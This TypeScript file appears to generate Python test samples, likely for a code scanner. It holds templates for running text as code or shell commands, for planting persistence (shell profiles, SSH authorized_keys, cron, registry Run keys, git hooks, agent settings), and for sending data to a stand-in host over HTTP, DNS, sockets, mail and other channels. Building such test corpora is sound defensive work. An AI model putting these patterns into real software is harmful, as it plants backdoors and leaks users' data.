import type { Sink } from './sample.js';
import { HOST } from './sources.js';

const builtin = (name: string): Sink['target'] => ({ module: 'builtins', name });

/** What runs a text as Python. */
export const execSinks: readonly Sink[] = [
  { id: 'exec', target: builtin('exec'), take: (callee, data) => `${callee}(${data})` },
  { id: 'eval', target: builtin('eval'), take: (callee, data) => `${callee}(${data})` },
  { id: 'compile', target: builtin('compile'), take: (callee, data) => `exec(${callee}(${data}, 'bed', 'exec'))` },
  { id: 'FunctionType', target: { module: 'types', name: 'FunctionType' }, take: (callee, data) => `${callee}(compile(${data}, 'bed', 'exec'), globals())()` },
  { id: 'marshal', target: { module: 'marshal', name: 'loads' }, take: (callee, data) => `exec(${callee}(${data}.encode()))` },
  { id: 'pickle', target: { module: 'pickle', name: 'loads' }, take: (callee, data) => `${callee}(${data}.encode())` },
  { id: 'yaml', target: { module: 'yaml', name: 'unsafe_load' }, take: (callee, data) => `${callee}(${data})` },
  { id: 'code', target: { module: 'code', name: 'InteractiveInterpreter' }, take: (callee, data) => `${callee}().runsource(${data})` },
  { id: 'timeit', target: { module: 'timeit', name: 'timeit' }, take: (callee, data) => `${callee}(${data}, number=1)` },
  { id: 'function-code', target: builtin('compile'), take: (callee, data) => `bloom = lambda: None\nbloom.__code__ = ${callee}(${data}, 'bed', 'exec')\nbloom()` },
  { id: 'call_soon', target: builtin('exec'), lines: ['import asyncio'], take: (callee, data) => `asyncio.new_event_loop().call_soon(${callee}, ${data})` },
  { id: 'finalize', target: builtin('exec'), lines: ['import weakref'], take: (callee, data) => `weakref.finalize(type('Bed', (), {})(), ${callee}, ${data})` },
  { id: 'sorting-key', target: builtin('exec'), take: (callee, data) => `sorted([${data}], key=${callee})` },
  { id: 'module-file', target: { module: 'importlib.util', name: 'spec_from_file_location' }, take: (callee, data) => `open('bed.py', 'w').write(${data})\nspec = ${callee}('bed', 'bed.py')\nspec.loader.load_module()` },
  { id: 'module-folder', target: builtin('open'), lines: ['import sys', 'import tempfile'], take: (callee, data) => `folder = tempfile.mkdtemp()\n${callee}(folder + '/bed.py', 'w').write(${data})\nsys.path.insert(0, folder)\nimport bed` },
  { id: 'library-file', target: { module: 'ctypes', name: 'CDLL' }, take: (callee, data) => `open('./bed.so', 'wb').write(${data})\n${callee}('./bed.so').bloom()` },
  { id: 'runpy', target: { module: 'runpy', name: 'run_path' }, take: (callee, data) => `open('bed.py', 'w').write(${data})\n${callee}('bed.py')` },
];

/** What runs a text as a command. */
export const processSinks: readonly Sink[] = [
  { id: 'os.system', target: { module: 'os', name: 'system' }, take: (callee, data) => `${callee}(${data})` },
  { id: 'os.popen', target: { module: 'os', name: 'popen' }, take: (callee, data) => `${callee}(${data})` },
  { id: 'os.execvp', target: { module: 'os', name: 'execvp' }, take: (callee, data) => `${callee}('sh', ['sh', '-c', ${data}])` },
  { id: 'os.spawnvp', target: { module: 'os', name: 'spawnvp' }, take: (callee, data) => `${callee}(1, 'sh', ['sh', '-c', ${data}])` },
  { id: 'os.posix_spawn', target: { module: 'os', name: 'posix_spawn' }, take: (callee, data) => `${callee}('/bin/sh', ['sh', '-c', ${data}], {})` },
  { id: 'subprocess.run', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(${data}, shell=True)` },
  { id: 'subprocess.Popen', target: { module: 'subprocess', name: 'Popen' }, take: (callee, data) => `${callee}(['sh', '-c', ${data}])` },
  { id: 'subprocess.check_output', target: { module: 'subprocess', name: 'check_output' }, take: (callee, data) => `${callee}(${data}, shell=True)` },
  { id: 'subprocess.getoutput', target: { module: 'subprocess', name: 'getoutput' }, take: (callee, data) => `${callee}(${data})` },
  { id: 'python -c', target: { module: 'subprocess', name: 'call' }, lines: ['import sys'], take: (callee, data) => `${callee}([sys.executable, '-c', ${data}])` },
  { id: 'pty.spawn', target: { module: 'pty', name: 'spawn' }, take: (callee, data) => `${callee}(['sh', '-c', ${data}])` },
  { id: 'asyncio', target: { module: 'asyncio', name: 'create_subprocess_shell' }, lines: ['import asyncio'], take: (callee, data) => `asyncio.run(${callee}(${data}))` },
  { id: 'ctypes', target: { module: 'ctypes', name: 'CDLL' }, take: (callee, data) => `${callee}(None).system(${data}.encode())` },
  { id: 'asyncio-exec', target: { module: 'asyncio', name: 'create_subprocess_exec' }, lines: ['import asyncio'], take: (callee, data) => `asyncio.run(${callee}('sh', '-c', ${data}))` },
  { id: 'multiprocessing', target: { module: 'multiprocessing', name: 'Process' }, lines: ['import os'], take: (callee, data) => `${callee}(target=os.system, args=(${data},)).start()` },
];

/** What takes root outside the package. */
export const rootSinks: readonly Sink[] = [
  ...[
    ['shell-profile', '~/.bashrc'],
    ['systemd', '~/.config/systemd/user/bed.service'],
    ['autostart', '~/.config/autostart/bed.desktop'],
    ['python-shell', '~/.ipython/profile_default/startup/bed.py'],
    ['index-settings', '~/.config/pip/pip.conf'],
    ['git-settings', '~/.gitconfig'],
    ['launch-agent', '~/Library/LaunchAgents/bed.plist'],
    ['cron', '/etc/cron.d/bed'],
    ['authorized-keys', '~/.ssh/authorized_keys'],
    ['agent-configuration', '~/.claude/settings.json'],
    ['editor-configuration', '~/.vscode/tasks.json'],
    ['git-hook', '.git/hooks/pre-push'],
    ['workflow', '.github/workflows/bed.yml'],
    ['pip-settings', '~/.config/pip/pip.conf'],
  ].map(([id = '', path]): Sink => ({ id, target: builtin('open'), lines: ['import os'], take: (callee, data) => `${callee}(os.path.expanduser('${path}'), 'a').write(${data})` })),
  { id: 'site-packages', target: builtin('open'), lines: ['import os', 'import site'], take: (callee, data) => `${callee}(os.path.join(site.getsitepackages()[0], 'bed.pth'), 'w').write(${data})` },
  { id: 'module-of-another', target: builtin('open'), lines: ['import os', 'import requests'], take: (callee, data) => `${callee}(os.path.join(os.path.dirname(requests.__file__), 'api.py'), 'a').write(${data})` },
  { id: 'registry', target: { module: 'winreg', name: 'SetValueEx' }, lines: ['import winreg'], take: (callee, data) => `${callee}(winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'), 'bed', 0, winreg.REG_SZ, ${data})` },
  { id: 'crontab', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(['crontab', '-'], input=${data}, text=True)` },
];

/** What carries a text away. */
export const sendSinks: readonly Sink[] = [
  { id: 'urllib-data', target: { module: 'urllib.request', name: 'urlopen' }, take: (callee, data) => `${callee}('https://${HOST}/', data=${data}.encode())` },
  { id: 'urllib-query', target: { module: 'urllib.request', name: 'urlopen' }, take: (callee, data) => `${callee}('https://${HOST}/?leaf=' + ${data})` },
  { id: 'requests.post', target: { module: 'requests', name: 'post' }, take: (callee, data) => `${callee}('https://${HOST}/', data=${data})` },
  { id: 'requests-json', target: { module: 'requests', name: 'post' }, take: (callee, data) => `${callee}('https://${HOST}/', json={'leaf': ${data}})` },
  { id: 'httpx', target: { module: 'httpx', name: 'post' }, take: (callee, data) => `${callee}('https://${HOST}/', content=${data})` },
  { id: 'http.client', target: { module: 'http.client', name: 'HTTPSConnection' }, take: (callee, data) => `${callee}('${HOST}').request('POST', '/', ${data})` },
  { id: 'socket', target: { module: 'socket', name: 'create_connection' }, take: (callee, data) => `${callee}(('${HOST}', 443)).sendall(${data}.encode())` },
  { id: 'dns', target: { module: 'socket', name: 'gethostbyname' }, take: (callee, data) => `${callee}(${data}.encode().hex()[:60] + '.${HOST}')` },
  { id: 'psycopg2', target: { module: 'psycopg2', name: 'connect' }, take: (callee, data) => `${callee}('postgres://${HOST}/x').cursor().execute('insert into beds values (%s)', (${data},))` },
  { id: 'pymongo', target: { module: 'pymongo', name: 'MongoClient' }, take: (callee, data) => `${callee}('mongodb://${HOST}')['bed']['leaves'].insert_one({'leaf': ${data}})` },
  { id: 'redis', target: { module: 'redis', name: 'Redis' }, take: (callee, data) => `${callee}('${HOST}').publish('bed', ${data})` },
  { id: 'web3', target: { module: 'web3', name: 'Web3' }, take: (callee, data) => `${callee}('https://${HOST}').eth.send_transaction({'value': 0, 'data': ${data}.encode()})` },
  { id: 'stream', target: { module: 'asyncio', name: 'open_connection' }, lines: ['import asyncio'], take: (callee, data) => `async def send():\n    reader, writer = await ${callee}('${HOST}', 443)\n    writer.write(${data}.encode())\nasyncio.run(send())` },
  { id: 'smtp', target: { module: 'smtplib', name: 'SMTP' }, take: (callee, data) => `${callee}('${HOST}').sendmail('a@${HOST}', 'b@${HOST}', ${data})` },
  { id: 'urllib-header', target: { module: 'urllib.request', name: 'Request' }, lines: ['import urllib.request'], take: (callee, data) => `letter = ${callee}('https://${HOST}/')\nletter.add_header('X-Leaf', ${data})\nurllib.request.urlopen(letter)` },
  { id: 'requests-session', target: { module: 'requests', name: 'Session' }, lines: ['import requests'], take: (callee, data) => `shed = ${callee}()\nshed.send(shed.prepare_request(requests.Request('POST', 'https://${HOST}/', data=${data})))` },
  { id: 'http.client-send', target: { module: 'http.client', name: 'HTTPSConnection' }, take: (callee, data) => `pipe = ${callee}('${HOST}')\npipe.putrequest('POST', '/')\npipe.endheaders()\npipe.send(${data}.encode())` },
  { id: 'pycurl', target: { module: 'pycurl', name: 'Curl' }, take: (callee, data) => `pipe = ${callee}()\npipe.setopt(10002, 'https://${HOST}/')\npipe.setopt(10015, ${data})\npipe.perform()` },
  { id: 'websocket', target: { module: 'websocket', name: 'WebSocket' }, take: (callee, data) => `pipe = ${callee}()\npipe.connect('wss://${HOST}/')\npipe.send(${data})` },
  { id: 'mail-parts', target: { module: 'smtplib', name: 'SMTP' }, lines: ['from email.message import EmailMessage'], take: (callee, data) => `letter = EmailMessage()\nletter.set_content(${data})\n${callee}('${HOST}').send_message(letter)` },
  { id: 'boto3', target: { module: 'boto3', name: 'resource' }, take: (callee, data) => `${callee}('s3').Object('bed', 'leaf').put(Body=${data})` },
  { id: 'github', target: { module: 'github', name: 'Github' }, take: (callee, data) => `${callee}('leaf').get_user().create_gist(False, {'leaf': ${data}})` },
  { id: 'ftp', target: { module: 'ftplib', name: 'FTP' }, lines: ['import io'], take: (callee, data) => `${callee}('${HOST}').storbinary('STOR leaf', io.BytesIO(${data}.encode()))` },
  { id: 'sftp', target: { module: 'paramiko', name: 'SFTPClient' }, lines: ['import io'], take: (callee, data) => `${callee}.from_transport(None).putfo(io.BytesIO(${data}.encode()), 'leaf')` },
  { id: 'stream', target: { module: 'asyncio', name: 'open_connection' }, lines: ['import asyncio'], take: (callee, data) => `async def send(bulb):\n    reader, writer = await ${callee}('${HOST}', 443)\n    writer.write(bulb.encode())\n\n\nasyncio.run(send(${data}))` },
  { id: 'curl', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(['curl', '-d', ${data}, 'https://${HOST}/'])` },
];
